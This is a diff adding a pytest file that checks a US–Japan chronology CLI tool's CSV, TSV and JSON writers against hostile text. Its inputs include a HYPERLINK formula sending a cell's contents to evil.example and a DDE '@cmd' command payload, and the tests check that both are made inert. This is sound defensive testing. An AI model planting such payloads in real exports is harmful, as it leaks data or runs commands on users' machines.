@@ -1,0 +1,74 @@
+"""The writers against hostile text: spreadsheet formulas, line breaks and controls in JSON.
+
+(Calendar injection is tested in test_calendars.py.)"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from ustojapan_cli import parse
+from ustojapan_cli.actors import load_registry
+from ustojapan_cli.export import Grid, from_jsonl, grid_csv, grid_tsv, neutralise, to_csv, to_json, to_jsonl, to_tsv
+
+REGISTRY = load_registry()
+
+
+@pytest.mark.parametrize(("cell", "expected"), [
+    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
+    ("+1+1", "'+1+1"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("＝1+1", "'＝1+1"),  # full-width, as a Japanese input method types it
+    ("Kishida = Prime Minister", "Kishida = Prime Minister"),  # not at the start: harmless
+    ("", ""),
+    ("2023-11-14", "2023-11-14"),
+])
+def test_neutralise(cell: str, expected: str) -> None:
+    assert neutralise(cell) == expected
+
+
+HOSTILE_CHRONOLOGY = (
+    "Chronology of US - Japan Relations\n\n"
+    "Jan. 2, 2020: =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") and Kishida meet.\n"
+    "Jan. 3, 2020: @cmd|' /C calc'!A0 is what Biden says.\n"
+)
+
+
+def test_csv_from_a_hostile_chronology_is_inert_by_default() -> None:
+    events = parse(HOSTILE_CHRONOLOGY, "evil.txt", REGISTRY).events
+    rows = list(csv.DictReader(io.StringIO(to_csv(events), newline="")))
+    assert [r["text"] for r in rows] == [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") and Kishida meet.",
+        "'@cmd|' /C calc'!A0 is what Biden says.",
+    ]
+    raw = list(csv.DictReader(io.StringIO(to_csv(events, safe=False), newline="")))
+    assert raw[0]["text"].startswith("=HYPERLINK(")  # --keep-formulas keeps them
+
+
+def test_tsv_neutralised_only_when_asked() -> None:
+    grid = Grid(("text", "n"), (("=1+1", 3), ("plain\ttext\nmore", 4)))
+    assert grid_tsv(grid, safe=True) == "text\tn\n'=1+1\t3\nplain text more\t4\n"
+    assert grid_tsv(grid) == "text\tn\n=1+1\t3\nplain text more\t4\n"
+    assert to_tsv(parse(HOSTILE_CHRONOLOGY, "evil.txt", REGISTRY).events).splitlines()[1].split("\t")[9] \
+        .startswith("=HYPERLINK")  # `usjp events` into a pipe: the data as it is
+
+
+def test_csv_numbers_are_not_neutralised() -> None:
+    assert grid_csv(Grid(("n",), ((-3,),))) == "n\r\n-3\r\n"
+
+
+def test_json_escapes_what_readers_take_for_line_ends_or_controls() -> None:
+    (event,) = parse("Jan. 2, 2020: a\u2028b \x85 c \x9b31m d \u2029 e", "t.txt", REGISTRY).events
+    text = event.text
+    assert "\u2028" not in text  # the parser squashes Unicode line breaks already ...
+    assert "\x9b" in text  # ... but keeps a C1 control as written
+    for out in (to_json([event]), to_jsonl([event])):
+        assert "\x9b" not in out and "\\u009b" in out
+    assert json.loads(to_json([event]))[0]["text"] == text
+    assert from_jsonl(to_jsonl([event])) == [event]
